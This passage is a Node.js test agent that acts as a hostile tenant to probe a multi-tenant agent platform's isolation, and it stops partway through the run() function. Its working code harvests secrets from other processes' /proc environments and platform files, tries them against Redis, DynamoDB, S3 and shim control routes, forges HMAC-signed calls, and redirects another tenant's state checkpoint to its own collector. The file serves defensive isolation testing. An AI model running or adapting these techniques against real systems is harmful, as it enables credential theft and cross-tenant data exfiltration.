#!/usr/bin/env node
/**
 * A hostile tenant agent (issue 11 item 9): plain Node ESM, no dependencies, run as AGENT_COMMAND
 * (AGENT_PROFILE=custom, zeroclaw protocol). It serves what the platform expects of an agent
 * (GET /health, POST /webhook {"message"} → {"response"}), and on a message `probe <json args>` it
 * tries, as an attacker on this host would, every door issue 11 found open, then answers with a
 * report and writes the full one to <workspace>/hostile-report.json.
 *
 *   args: { dataDir?, victim?, tenants?: string[], bucket?, targets?: ["host:port"...], budgetMs? }
 *   (hints from the test for its assertions; the agent also discovers what it can by itself)
 *
 * Answer: `HOSTILE-REPORT {"v":1,"tenant","probes":[name...],"findings":[{n,t,v}...],"truncated"}`.
 * A finding is {name, target?, via?, detail}: `via` says where the secret that opened the door came
 * from (own-env, own-shim, proc:<role>, file:<name>, derived:<origin>), so the test can tell a door
 * opened by what the platform gave this agent from one opened by what a shared host exposed.
 * Details never carry a secret's value: names, pids, counts and statuses only.
 *
 * Every probe is bounded (per-operation timeouts, a global budget, capped loops) and loopback only;
 * the network probes touch only the targets the test names and the ports of this agent's own
 * platform process tree (never the rest of the host).
 */
import http from 'node:http';
import net from 'node:net';
import { createHash, createHmac, randomBytes } from 'node:crypto';
import { readFileSync, readdirSync, readlinkSync, statSync, writeFileSync, openSync, readSync, closeSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';

const env = process.env;
const PORT = Number(env.PORT ?? env.AGENT_PORT ?? 42617);
const HOST = env.HOST?.trim() || '127.0.0.1';
const WORKSPACE = path.resolve(env.WORKSPACE ?? process.cwd());
const TENANT = env.TENANT_ID ?? 'unknown';
const MAX_PIDS = 5000;
const MAX_FILES = 400;
const MAX_SECRETS = 40;
const OP_TIMEOUT_MS = 1000;

const SECRET_NAME = /(SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE|CREDENTIAL|SIGNATURE)/i;
const BOT_TOKEN = /\b[0-9]{6,12}:[A-Za-z0-9_-]{30,60}\b/;
const BOT_TOKEN_G = /\b[0-9]{6,12}:[A-Za-z0-9_-]{30,60}\b/g;

/** A value that is a credential by its shape, whatever its name. */
function valueKind(v) {
  if (BOT_TOKEN.test(v)) return 'bot-token';
  if (/X-Amz-Signature=|X-Amz-Credential=/i.test(v)) return 'presigned-url';
  if (/^[a-z][a-z0-9+.-]*:\/\/[^/@\s]*:[^/@\s]+@/i.test(v)) return 'url-password';
  return undefined;
}

/** The secret-looking entries of an environment: [{name, value}]. */
function secretsOf(vars) {
  const out = [];
  for (const [name, value] of Object.entries(vars)) {
    if (typeof value !== 'string' || value.length < 8) continue;
    if ((SECRET_NAME.test(name) && !/^(PATH|HOME)$/.test(name)) || valueKind(value)) out.push({ name, value });
  }
  return out;
}

function parseEnviron(raw) {
  const vars = {};
  for (const entry of raw.split('\0')) {
    const i = entry.indexOf('=');
    if (i > 0) vars[entry.slice(0, i)] = entry.slice(i + 1);
  }
  return vars;
}

const tryRead = (file, max = 256 * 1024) => {
  try {
    const fd = openSync(file, 'r');
    try {
      const buf = Buffer.alloc(max);
      const n = readSync(fd, buf, 0, max, 0);
      return buf.subarray(0, n);
    } finally {
      closeSync(fd);
    }
  } catch {
    return undefined;
  }
};
const tryList = (dir) => {
  try {
    return readdirSync(dir);
  } catch {
    return undefined;
  }
};
const isDir = (p) => {
  try {
    return statSync(p).isDirectory();
  } catch {
    return false;
  }
};

/** Which secrets to try first: its own pod's, then what was derived or read from the platform's files, then the rest of the host. */
function originRank(origin) {
  if (/^(own-|proc:own-shim)/.test(origin)) return 0;
  if (/^derived:(own-|proc:own-shim)/.test(origin)) return 1;
  if (/^derived:/.test(origin)) return 2;
  if (/^(file:|dynamodb|proc:(platform|shim|agent|redis))/.test(origin)) return 3;
  return 4;
}

/** One run of every probe; the state of one run (secrets found, findings, probes). */
class Probe {
  constructor(args) {
    this.args = args;
    this.deadline = Date.now() + Math.min(Math.max(Number(args.budgetMs) || 20_000, 2_000), 60_000);
    this.findings = [];
    this.probes = [];
    /** value → origin: every credential found (the first origin wins). */
    this.secrets = new Map();
    this.ownValues = new Set(secretsOf(env).map((s) => s.value));
    this.dataDirs = new Set();
    this.tenants = new Set([...(args.tenants ?? []), ...(args.victim ? [args.victim] : [])].filter((t) => /^[a-z][a-z0-9-]{0,39}$/.test(t)));
    this.podNames = new Set();
    /** tenant → incarnations seen (the agent bearer and webhook secret are derived per incarnation). */
    this.incarnations = new Map();
    this.presigned = []; // {url, origin}
    this.targets = new Set((args.targets ?? []).filter((t) => /^127\.[0-9.]+:[0-9]{1,5}$/.test(t)));
    this.ownShim = undefined; // "host:port" of this agent's own shim, when its environment says
    this.ownShimPid = undefined;
    this.platformRoot = undefined;
  }

  get timeLeft() {
    return this.deadline - Date.now();
  }

  find(name, detail, extra = {}) {
    const key = `${name}|${extra.target ?? ''}|${extra.via ?? ''}`;
    if (this.findings.some((f) => `${f.name}|${f.target ?? ''}|${f.via ?? ''}` === key)) return;
    this.findings.push({ name, ...extra, detail: String(detail).slice(0, 300) });
  }

  ran(name, detail) {
    this.probes.push({ name, detail: String(detail).slice(0, 300) });
  }

  addSecret(value, origin) {
    if (typeof value !== 'string' || value.length < 8 || value.length > 4096) return;
    // A value seen in several places is credited to the closest: what its own pod holds comes first.
    const before = this.secrets.get(value);
    if (before === undefined || originRank(origin) < originRank(before)) this.secrets.set(value, origin);
    const m = /^[a-z][a-z0-9+.-]*:\/\/([^/@\s:]*):([^/@\s]+)@/i.exec(value);
    if (m) this.addSecret(decodeURIComponent(m[2]), `${origin}:url-password`);
    if (valueKind(value) === 'presigned-url') this.presigned.push({ url: value, origin });
  }

  /** The candidates to sign or authenticate with: own first, then foreign, capped. */
  candidates() {
    return [...this.secrets.entries()].sort((a, b) => originRank(a[1]) - originRank(b[1])).slice(0, MAX_SECRETS * 4);
  }

  /** Candidates for one door: each origin keeps being tried until one of its secrets opened it. */
  *perOrigin(list = this.candidates()) {
    const opened = new Set();
    for (const entry of list) {
      if (opened.has(entry[1])) continue;
      if ((yield entry) === true) opened.add(entry[1]);
    }
  }

  // ---------------------------------------------------------------- environment

  probeOwnEnv() {
    const found = secretsOf(env);
    for (const { name, value } of found) {
      this.find(`env:${name}`, `own environment holds ${valueKind(value) ?? 'a secret-named variable'}`);
      this.addSecret(value, 'own-env');
    }
    if (env.DATA_DIR) this.dataDirs.add(env.DATA_DIR);
    this.ran('own-env', `${Object.keys(env).length} variables, ${found.length} secret-looking: ${found.map((s) => s.name).join(',') || 'none'}`);
  }

  // ---------------------------------------------------------------- /proc

  ancestors() {
    const chain = [];
    let pid = process.pid;
    for (let i = 0; i < 30; i++) {
      const stat = tryRead(`/proc/${pid}/stat`, 4096)?.toString();
      const ppid = stat ? Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) : 0;
      if (!ppid || ppid <= 1) break;
      chain.push(ppid);
      pid = ppid;
    }
    return chain;
  }

  probeProc() {
    const pids = (tryList('/proc') ?? []).filter((n) => /^[0-9]+$/.test(n)).map(Number).slice(0, MAX_PIDS);
    const ancestors = this.ancestors();
    const self = process.pid;
    const byRole = new Map(); // role → {pids:Set, names:Set}
    const cmdlineRoles = new Map();
    let readable = 0;
    const cmdlines = new Map();
    for (const pid of pids) cmdlines.set(pid, tryRead(`/proc/${pid}/cmdline`, 8192)?.toString() ?? '');
    const shimAncestor = ancestors.find((a) => /agent\/shim\.(ts|js)/.test(cmdlines.get(a) ?? ''));
    if (shimAncestor) {
      this.ownShimPid = shimAncestor;
      const i = ancestors.indexOf(shimAncestor);
      this.platformRoot = ancestors[i + 1];
    }
    // Its own platform: its ancestors and whatever descends from the process that started its shim.
    this.tree = this.platformTree();
    for (const a of ancestors) this.tree.add(a);
    for (const pid of pids) {
      if (this.timeLeft < 8_000) break;
      if (pid === self) continue;
      const cmd = cmdlines.get(pid) ?? '';
      const raw = tryRead(`/proc/${pid}/environ`, 256 * 1024);
      if (raw === undefined || raw.length === 0) continue;
      readable++;
      const vars = parseEnviron(raw.toString());
      const role = this.roleOf(pid, cmd, ancestors);
      if (role === 'own-sh') continue; // `sh -c` that started this agent: this agent's own environment
      const ours = this.tree.has(pid);
      if (vars.DATA_DIR && ours) this.dataDirs.add(vars.DATA_DIR);
      if (ours && vars.TENANT_ID && /^[a-z][a-z0-9-]{0,39}$/.test(vars.TENANT_ID)) this.tenants.add(vars.TENANT_ID);
      for (const n of [vars.POD_NAME, vars.HOSTNAME]) if (n && /^(zeroclaw-|warm-pool-)/.test(n)) this.podNames.add(n);
      if (role === 'own-shim') {
        const host = vars.SHIM_HOST && vars.SHIM_HOST !== '0.0.0.0' ? vars.SHIM_HOST : HOST;
        this.ownShim = `${host === '0.0.0.0' ? '127.0.0.1' : host}:${vars.SHIM_PORT ?? '9000'}`;
      }
      try {
        const cwd = readlinkSync(`/proc/${pid}/cwd`);
        if (ours && /\/(tenants|warm)\/[^/]+\/workspace$/.test(cwd)) this.dataDirs.add(path.resolve(cwd, '../../..'));
      } catch {
        /* not ours to see */
      }
      const foreign = secretsOf(vars).filter((s) => !this.ownValues.has(s.value));
      if (foreign.length > 0) {
        const entry = byRole.get(role) ?? { pids: new Set(), names: new Set() };
        entry.pids.add(pid);
        for (const s of foreign) entry.names.add(s.name);
        byRole.set(role, entry);
        for (const s of foreign) this.addSecret(s.value, `proc:${role}`);
      }
      const args = cmd.split('\0');
      const argSecrets = args.filter((a) => valueKind(a) || /^(--)?[A-Za-z_]*(secret|token|password|key)[A-Za-z_]*=.{8,}/i.test(a));
      const foreignArgs = argSecrets.filter((a) => !this.ownValues.has(a));
      if (foreignArgs.length > 0) cmdlineRoles.set(role, (cmdlineRoles.get(role) ?? 0) + foreignArgs.length);
      for (const a of foreignArgs) this.addSecret(a.includes('=') && !valueKind(a) ? a.slice(a.indexOf('=') + 1) : a, `proc:${role}:cmdline`);
      for (const tok of cmd.match(BOT_TOKEN_G) ?? []) this.addSecret(tok, `proc:${role}:cmdline`);
    }
    for (const [role, e] of byRole) {
      this.find(`proc-environ:${role}`, `${e.pids.size} process(es) whose environment holds ${[...e.names].sort().join(',')}`);
    }
    for (const [role, n] of cmdlineRoles) this.find(`proc-cmdline:${role}`, `${n} secret-looking argument(s)`);
    this.ran('proc', `${pids.length} pids listed, ${readable} environ readable, ancestors ${ancestors.length}, own shim ${this.ownShimPid ? 'seen' : 'not seen'}`);
  }

  roleOf(pid, cmd, ancestors) {
    if (pid === process.ppid && /(^|\/)(ba|da|)sh\0/.test(cmd)) return 'own-sh';
    if (pid === this.ownShimPid) return 'own-shim';
    if (/agent\/shim\.(ts|js)/.test(cmd)) return 'shim';
    if (/services\/platform\/main\.ts/.test(cmd) || (ancestors.includes(pid) && pid === this.platformRoot)) return 'platform';
    if (/redis-server/.test(cmd)) return 'redis';
    if (/reference-agent|hostile-agent|zeroclaw|openclaw/.test(cmd)) return 'agent';
    return 'other';
  }

  // ---------------------------------------------------------------- filesystem

  findDataDirs() {
    if (this.args.dataDir) this.dataDirs.add(this.args.dataDir);
    // The way up from its own workspace: DATA_DIR/{tenants,warm}/<name>/workspace.
    let dir = WORKSPACE;
    for (let i = 0; i < 5; i++) {
      dir = path.dirname(dir);
      const names = tryList(dir);
      if (names && (names.includes('secrets.json') || names.includes('platform.json') || (names.includes('tenants') && names.includes('warm')))) this.dataDirs.add(dir);
    }
  }

  probeFiles() {
    this.findDataDirs();
    let looked = 0;
    for (const dataDir of this.dataDirs) {
      if (this.timeLeft < 6_000) break;
      for (const [file, name] of [['secrets.json', 'fs:secrets.json'], ['platform.json', 'fs:platform.json'], ['redis/password', 'fs:redis-password']]) {
        looked++;
        const buf = tryRead(path.join(dataDir, file));
        if (buf === undefined) continue;
        const text = buf.toString();
        let fields = 0;
        try {
          const doc = JSON.parse(text);
          for (const [k, v] of Object.entries(doc)) {
            if (typeof v === 'string') {
              this.addSecret(v, `file:${file}`);
              fields++;
              if (/^redis/.test(v) && /webhook|pool/i.test(k) === false) this.addSecret(v, `file:${file}`);
            }
          }
        } catch {
          if (text.trim()) this.addSecret(text.trim(), `file:${file}`);
        }
        this.find(name, `readable (${buf.length} bytes${fields ? `, ${fields} string fields` : ''})`);
      }
      this.probeStoreFiles(dataDir, 'dynamodb', 'fs:dynamodb-store');
      this.probeStoreFiles(dataDir, 's3', 'fs:s3-store');
      this.probeWorkspaces(dataDir);
    }
    this.probeSiblingWorkspaces();
    this.ran('fs', `${this.dataDirs.size} DATA_DIR candidate(s) (${this.args.dataDir ? 'one given' : 'none given'}), ${looked} secret files tried`);
  }

  /** A store's files under DATA_DIR: readable at all, and do they hold bot tokens or another tenant's state. */
  probeStoreFiles(dataDir, sub, name) {
    const root = path.join(dataDir, sub);
    const files = [];
    const walk = (dir, depth) => {
      if (depth > 8 || files.length >= MAX_FILES) return;
      for (const n of tryList(dir) ?? []) {
        const p = path.join(dir, n);
        if (isDir(p)) walk(p, depth + 1);
        else files.push(p);
        if (files.length >= MAX_FILES) return;
      }
    };
    walk(root, 0);
    if (files.length === 0) return;
    let tokens = 0;
    let readable = 0;
    const foreignState = files.filter((f) => /tenants\/([a-z][a-z0-9-]*)\//.test(f) && !f.includes(`tenants/${TENANT}/`)).length;
    for (const f of files.slice(0, 200)) {
      const buf = tryRead(f, 1024 * 1024);
      if (!buf) continue;
      readable++;
      const m = buf.toString('latin1').match(BOT_TOKEN_G) ?? [];
      tokens += m.length;
      for (const tok of m.slice(0, 10)) this.addSecret(tok, `file:${sub}`);
    }
    if (readable > 0) this.find(name, `${readable} of ${files.length} files readable; ${tokens} bot-token-shaped strings; ${foreignState} files of other tenants' state`);
  }

  /** Other tenants' workspaces (and old warm members') under DATA_DIR. */
  probeWorkspaces(dataDir) {
    for (const kind of ['tenants', 'warm']) {
      for (const n of tryList(path.join(dataDir, kind)) ?? []) {
        const ws = path.join(dataDir, kind, n, 'workspace');
        if (ws === WORKSPACE) continue;
        if (kind === 'warm') this.podNames.add(n);
        if (kind === 'tenants' && /^[a-z][a-z0-9-]{0,39}$/.test(n)) this.tenants.add(n);
        const inside = tryList(ws);
        if (!inside) continue;
        const brain = tryRead(path.join(ws, 'memory', 'brain.db'), 64) !== undefined;
        this.find('fs:other-workspace', `${kind}/<${kind === 'warm' ? 'member' : 'tenant'}>: listable (${inside.length} entries)${brain ? ', memory/brain.db readable' : ''}`, { target: `${kind}/${n}` });
      }
    }
  }

  /** Where the workspace is not under a DATA_DIR (a kubelet's pod directories): its neighbours. */
  probeSiblingWorkspaces() {
    // <base>/<own pod>/<tail> with the tail one to three levels deep (a kubelet's pods/<pod>/volumes/workspace).
    let seen = 0;
    for (let depth = 1; depth <= 3; depth++) {
      const parts = WORKSPACE.split(path.sep);
      if (parts.length < depth + 3) break;
      const base = parts.slice(0, parts.length - depth - 1).join(path.sep);
      const own = parts[parts.length - depth - 1];
      const tail = parts.slice(parts.length - depth);
      if (this.dataDirs.has(path.dirname(base))) continue; // DATA_DIR/{tenants,warm}: done above
      for (const n of (tryList(base) ?? []).slice(0, 200)) {
        if (n === own) continue;
        const ws = path.join(base, n, ...tail);
        const inside = isDir(ws) ? tryList(ws) : undefined;
        if (!inside) continue;
        seen++;
        const brain = tryRead(path.join(ws, 'memory', 'brain.db'), 64) !== undefined;
        this.find('fs:other-workspace', `a neighbouring pod directory's workspace is listable (${inside.length} entries)${brain ? ', memory/brain.db readable' : ''}`, { target: `pod-dir/${n}` });
      }
    }
    this.ran('fs-neighbours', `${seen} neighbouring workspaces readable next to its own`);
  }

  // ---------------------------------------------------------------- network: targets

  /** Loopback listeners owned by this agent's own platform process tree (what an attacker would pick). */
  platformTree() {
    const tree = new Set();
    if (!this.platformRoot) return tree;
    const children = new Map();
    for (const n of tryList('/proc') ?? []) {
      if (!/^[0-9]+$/.test(n)) continue;
      const stat = tryRead(`/proc/${n}/stat`, 4096)?.toString();
      if (!stat) continue;
      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      if (!children.has(ppid)) children.set(ppid, []);
      children.get(ppid).push(Number(n));
    }
    const stack = [this.platformRoot];
    while (stack.length && tree.size < 500) {
      const p = stack.pop();
      if (tree.has(p)) continue;
      tree.add(p);
      stack.push(...(children.get(p) ?? []));
    }
    return tree;
  }

  discoverTargets() {
    const tree = this.tree ?? new Set();
    if (!this.platformRoot) return 0;
    const inodes = new Set();
    for (const pid of tree) {
      for (const fd of (tryList(`/proc/${pid}/fd`) ?? []).slice(0, 2000)) {
        try {
          const m = /^socket:\[([0-9]+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`));
          if (m) inodes.add(m[1]);
        } catch {
          /* gone */
        }
      }
    }
    let added = 0;
    const text = tryRead('/proc/net/tcp', 4 * 1024 * 1024)?.toString() ?? '';
    for (const line of text.split('\n').slice(1)) {
      const cols = line.trim().split(/\s+/);
      if (cols.length < 10 || cols[3] !== '0A' || !inodes.has(cols[9])) continue;
      const [hexIp, hexPort] = cols[1].split(':');
      const ip = [3, 2, 1, 0].map((i) => parseInt(hexIp.slice(i * 2, i * 2 + 2), 16)).join('.');
      const host = ip === '0.0.0.0' ? '127.0.0.1' : ip;
      if (!host.startsWith('127.')) continue;
      const t = `${host}:${parseInt(hexPort, 16)}`;
      if (!this.targets.has(t)) {
        this.targets.add(t);
        added++;
      }
    }
    return added;
  }

  async fingerprint(target) {
    const [host, portText] = target.split(':');
    const port = Number(portText);
    const pong = await rawExchange(host, port, 'PING\r\n', 400);
    if (pong && /^(\+PONG|-NOAUTH|-ERR|-WRONGPASS)/.test(pong)) return { kind: 'redis', open: pong.startsWith('+PONG') };
    const health = await httpCall('GET', `http://${target}/healthz`);
    if (health?.status === 200 && /"phase"/.test(health.body)) return { kind: 'shim', phase: /"phase":"([a-z]+)"/.exec(health.body)?.[1] };
    const h2 = await httpCall('GET', `http://${target}/health`);
    if (h2?.status === 200 && /"status"\s*:\s*"ok"/.test(h2.body)) return { kind: 'agent' };
    const dyn = await httpCall('POST', `http://${target}/`, '{}', { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.ListTables' });
    if (dyn && /TableNames|UnrecognizedClientException|MissingAuthenticationToken|IncompleteSignature|InvalidSignature|AccessDenied/.test(dyn.body) && /application\/x-amz-json|json/.test(dyn.type ?? '')) return { kind: 'dynamodb', first: dyn };
    const root = await httpCall('GET', `http://${target}/`);
    if (root && /ListAllMyBucketsResult|<Error>|<Code>/.test(root.body)) return { kind: 's3', first: root };
    return { kind: health || h2 || root ? 'http' : 'closed' };
  }

  // ---------------------------------------------------------------- network: probes

  async probeNetwork() {
    const discovered = this.discoverTargets();
    const own = new Set([`${HOST === '0.0.0.0' ? '127.0.0.1' : HOST}:${PORT}`, `127.0.0.1:${PORT}`]);
    const kinds = new Map();
    for (const t of [...this.targets].slice(0, 80)) {
      if (this.timeLeft < 4_000) break;
      if (own.has(t)) continue;
      kinds.set(t, await this.fingerprint(t));
    }
    const count = (k) => [...kinds.values()].filter((f) => f.kind === k).length;
    this.ran('targets', `${this.targets.size} targets (${discovered} found in its own platform's process tree): ${['redis', 'dynamodb', 's3', 'shim', 'agent', 'http'].map((k) => `${k} ${count(k)}`).join(', ')}`);
    this.deriveFromMasters();
    for (const [t, f] of kinds) if (f.kind === 'redis') await this.probeRedis(t, f);
    this.ran('redis', `${count('redis')} Redis tried without a password and with ${this.candidates().length} secret(s)`);
    for (const [t, f] of kinds) if (f.kind === 'dynamodb') await this.probeDynamo(t);
    this.ran('dynamodb', `${count('dynamodb')} DynamoDB endpoint(s) tried unsigned (ListTables, Scan)`);
    for (const [t, f] of kinds) if (f.kind === 's3') await this.probeS3(t, f);
    await this.probePresigned();
    this.ran('s3', `${count('s3')} S3 endpoint(s) tried anonymously; ${this.presigned.filter((p) => p.origin !== 'own-env').length} foreign presigned URL(s) tried`);
    this.deriveFromMasters(); // masters found in the stores
    const collector = await startCollector();
    try {
      for (const [t, f] of kinds) {
        if (f.kind === 'shim' && t !== this.ownShim) await this.probeShim(t, f, collector);
      }
      this.ran('shim-control', `${count('shim')} shim(s) (own ${this.ownShim ? 'known, skipped' : 'unknown'}) tried with ${this.candidates().length} secret(s) on /state-urls and /claim; collector got ${collector.received.length} upload(s)`);
    } finally {
      await collector.close();
    }
    for (const [t, f] of kinds) if (f.kind === 'agent') await this.probeAgent(t);
    this.ran('agent-webhook', `${count('agent')} other agent(s) called on /webhook without and with ${this.candidates().length} bearer(s)`);
  }

  /** A master secret (WEBHOOK_SECRET, WARM_POOL_SECRET) opens what is derived from it: derive it. */
  deriveFromMasters() {
    const masters = [...this.secrets.entries()].filter(([, origin]) => !origin.startsWith('derived:'));
    const names = new Set([...this.podNames, ...[...this.tenants].map((t) => `zeroclaw-${t}`)]);
    for (const [value, origin] of masters.slice(0, 30)) {
      if (valueKind(value)) continue;
      for (const n of [...names].slice(0, 30)) this.addSecret(createHmac('sha256', value).update(`shim-control:${n}`).digest('base64url'), `derived:${origin}`);
      for (const t of [...this.tenants].slice(0, 10)) {
        for (const inc of [undefined, ...(this.incarnations.get(t) ?? [])].slice(0, 5)) {
          this.addSecret(createHmac('sha256', value).update(inc ? `agent-bearer:${t}:${inc}` : `agent-bearer:${t}`).digest('base64url'), `derived:${origin}`);
        }
      }
    }
  }

  async probeRedis(target, f) {
    const [host, port] = target.split(':');
    if (f.open) {
      this.find('redis-no-password', 'PING answered PONG without AUTH', { target });
      await this.harvestRedis(host, Number(port), undefined);
      return;
    }
    for (const [value, origin] of this.candidates()) {
      if (this.timeLeft < 3_000) break;
      if (value.length > 512 || /[\r\n]/.test(value)) continue;
      const reply = await rawExchange(host, Number(port), resp('AUTH', value), 400);
      if (reply && reply.startsWith('+OK')) {
        this.find('redis-auth', 'AUTH accepted a secret found on this host', { target, via: origin });
        await this.harvestRedis(host, Number(port), value);
        return;
      }
    }
  }

  /** With Redis open: the router's endpoints tell where every tenant's agent is. */
  async harvestRedis(host, port, password) {
    const reply = await rawExchange(host, port, `${password ? resp('AUTH', password) : ''}${resp('SCAN', '0', 'MATCH', 'router:endpoint:*', 'COUNT', '1000')}`, 600, true);
    for (const m of (reply ?? '').matchAll(/router:endpoint:([a-z][a-z0-9-]{0,39})/g)) this.tenants.add(m[1]);
    for (const t of [...this.tenants].slice(0, 10)) {
      const got = await rawExchange(host, port, `${password ? resp('AUTH', password) : ''}${resp('GET', `ztm:incarnation:${t}`)}`, 300, true);
      const inc = /\$[0-9]+\r\n([A-Za-z0-9_-]{8,64})\r\n/.exec(got ?? '')?.[1];
      if (inc) this.incarnations.set(t, new Set([...(this.incarnations.get(t) ?? []), inc]));
    }
  }

  async probeDynamo(target) {
    // Unsigned, then with a made-up signature (a store that wants the header but checks nothing).
    const amzDate = new Date().toISOString().replace(/[-:]/g, '').replace(/\.[0-9]{3}/, '');
    const bogus = { 'x-amz-date': amzDate, authorization: `AWS4-HMAC-SHA256 Credential=AKIAHOSTILE/${amzDate.slice(0, 8)}/us-east-1/dynamodb/aws4_request, SignedHeaders=host;x-amz-date, Signature=${'0'.repeat(64)}` };
    let signed = {};
    let hdr = (op) => ({ 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': `DynamoDB_20120810.${op}`, ...signed });
    let list = await httpCall('POST', `http://${target}/`, '{}', hdr('ListTables'));
    if (list?.status !== 200) {
      signed = bogus;
      list = await httpCall('POST', `http://${target}/`, '{}', hdr('ListTables'));
    }
    if (!list || list.status !== 200) return;
    let tables = [];
    try {
      tables = JSON.parse(list.body).TableNames ?? [];
    } catch {
      /* not JSON */
    }
    this.find('dynamodb-unsigned', `ListTables answered 200 ${signed === bogus ? 'to a made-up signature' : 'without a signature'} (${tables.length} tables)`, { target });
    let items = 0;
    let tokens = 0;
    for (const table of tables.slice(0, 5)) {
      const scan = await httpCall('POST', `http://${target}/`, JSON.stringify({ TableName: table, Limit: 100 }), hdr('Scan'));
      if (!scan || scan.status !== 200) continue;
      items += (scan.body.match(/"tenant_id"/g) ?? []).length;
      for (const tok of scan.body.match(BOT_TOKEN_G) ?? []) {
        tokens++;
        this.addSecret(tok, 'dynamodb');
      }
      for (const m of scan.body.matchAll(/"tenant_id":\{"S":"([a-z][a-z0-9-]{0,39})"\}/g)) this.tenants.add(m[1]);
      for (const item of (() => {
        try {
          return JSON.parse(scan.body).Items ?? [];
        } catch {
          return [];
        }
      })()) {
        const t = item.tenant_id?.S;
        const inc = item.incarnation?.S;
        if (t && inc) this.incarnations.set(t, new Set([...(this.incarnations.get(t) ?? []), inc]));
      }
    }
    if (tokens > 0 || items > 0) this.find('dynamodb-scan', `Scan without a signature returned ${items} tenant records, ${tokens} bot tokens`, { target });
  }

  async probeS3(target, f) {
    let buckets = [];
    if (f.first?.status === 200 && /ListAllMyBucketsResult/.test(f.first.body)) {
      buckets = [...f.first.body.matchAll(/<Name>([^<]{1,100})<\/Name>/g)].map((m) => m[1]);
      this.find('s3-anonymous-list', `ListBuckets answered without a signature (${buckets.length} buckets)`, { target });
    }
    if (this.args.bucket && !buckets.includes(this.args.bucket)) buckets.push(this.args.bucket);
    const victims = [...this.tenants].filter((t) => t !== TENANT);
    for (const b of buckets.slice(0, 5)) {
      const listing = await httpCall('GET', `http://${target}/${encodeURIComponent(b)}?list-type=2&prefix=tenants/`);
      if (listing?.status === 200 && /ListBucketResult/.test(listing.body)) {
        for (const m of listing.body.matchAll(/<Key>tenants\/([a-z][a-z0-9-]{0,39})\//g)) if (m[1] !== TENANT) victims.push(m[1]);
        this.find('s3-anonymous-list-objects', 'ListObjects of the state bucket answered without a signature', { target });
      }
      for (const v of [...new Set(victims)].slice(0, 10)) {
        const got = await httpCall('GET', `http://${target}/${encodeURIComponent(b)}/tenants/${v}/state.tar.gz`);
        if (got?.status === 200 && got.bytes > 0) this.find('s3-anonymous-get', `another tenant's state.tar.gz (${got.bytes} bytes) read without a signature`, { target });
      }
    }
  }

  async probePresigned() {
    for (const { url, origin } of this.presigned.slice(0, 20)) {
      if (origin === 'own-env' || this.timeLeft < 3_000) continue;
      if (!/^http:\/\/127\./.test(url)) continue;
      const tenant = /\/tenants\/([a-z][a-z0-9-]{0,39})\//.exec(decodeURIComponent(new URL(url).pathname))?.[1];
      if (tenant === TENANT || !/X-Amz-Signature/i.test(url)) continue;
      const got = await httpCall('GET', url);
      if (got?.status === 200) this.find('s3-presigned-foreign', `another tenant's presigned state URL found on this host opened its state (${got.bytes} bytes)`, { via: origin });
    }
  }

  /**
   * Another shim's control routes, signed with every secret found: a body made to fail after the
   * signature check tells whether the signature passed (400, not 401), harmlessly. When one passes,
   * the redirect: the victim's state URLs pointed at this agent's collector, then a checkpoint.
   */
  async probeShim(target, f, collector) {
    const routes = f.phase === 'warm' ? ['/state-urls', '/claim'] : ['/state-urls'];
    let redirected = false;
    const tries = this.perOrigin();
    let opened = false;
    for (let next = tries.next(); !next.done; next = tries.next(opened)) {
      const [secret, origin] = next.value;
      opened = false;
      if (this.timeLeft < 3_000) break;
      for (const route of routes) {
        const body = route === '/claim' ? '{}' : '{"state_get_url":"not a url"}';
        const res = await httpCall('POST', `http://${target}${route}`, body, { 'content-type': 'application/json', 'x-shim-auth': signShimCall(secret, 'POST', route, body) });
        if (!res || res.status === 401 || res.status === 403 || res.status === 404) continue;
        this.find('shim-control-accepted', `${route} took a call signed with a secret found on this host (answered ${res.status})`, { target, via: origin });
        opened = true;
        if (route === '/state-urls' && !redirected) {
          redirected = true;
          await this.redirect(target, secret, origin, collector);
        }
        break;
      }
    }
  }

  async redirect(target, secret, origin, collector) {
    const ids = [...this.tenants].filter((t) => t !== TENANT).slice(0, 6);
    for (const id of ids) {
      const url = `${collector.url}/c/tenants/${id}/state.tar.gz`;
      const body = JSON.stringify({ state_get_url: url, state_put_url: url });
      const res = await httpCall('POST', `http://${target}/state-urls`, body, { 'content-type': 'application/json', 'x-shim-auth': signShimCall(secret, 'POST', '/state-urls', body) });
      if (res?.status !== 200) continue;
      this.find('state-redirect-accepted', 'the shim took state URLs pointing at this agent\'s collector', { target, via: origin });
      const cp = await httpCall('POST', `http://${target}/checkpoint`, '{}', { 'content-type': 'application/json', 'x-shim-auth': signShimCall(secret, 'POST', '/checkpoint', '{}') }, 8_000);
      const until = Date.now() + 3_000;
      while (collector.received.length === 0 && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
      for (const got of collector.received) {
        let sqlite = false;
        try {
          sqlite = gunzipSync(got.body).includes('SQLite format 3');
        } catch {
          /* not gzip */
        }
        this.find('state-exfiltrated', `another tenant's checkpoint arrived at the collector (${got.body.length} bytes${sqlite ? ', holds a SQLite database' : ''}; checkpoint answered ${cp?.status ?? 'nothing'})`, { target, via: origin });
      }
      return;
    }
  }

  /** Another tenant's agent, called directly: no bearer, then every secret found as one. */
  async probeAgent(target) {
    const body = JSON.stringify({ message: 'hostile-agent: what do you remember?' });
    const tries = this.perOrigin([[undefined, 'none'], ...this.candidates().filter(([v]) => v.length <= 512)]);
    let opened = false;
    for (let next = tries.next(); !next.done; next = tries.next(opened)) {
      const [bearer, origin] = next.value;
      opened = false;
      if (this.timeLeft < 1_500) break;
      const headers = { 'content-type': 'application/json', ...(bearer ? { authorization: `Bearer ${bearer}` } : {}) };
      const res = await httpCall('POST', `http://${target}/webhook`, body, headers);
      if (!res || res.status === 404 || res.status === 405) return; // no message endpoint there
      if (res.status === 200) {
        const memory = /memories: ([0-9]+)/.exec(res.body)?.[1];
        this.find(bearer ? 'agent-webhook-bearer' : 'agent-webhook-open', `another tenant's agent answered a direct call${memory ? ` (and told its memory count, ${memory})` : ''}`, { target, ...(bearer ? { via: origin } : {}) });
        if (!bearer) return; // open to anyone: nothing more to learn
        opened = true;
      }
    }
  }

  async run() {
    const started = Date.now();
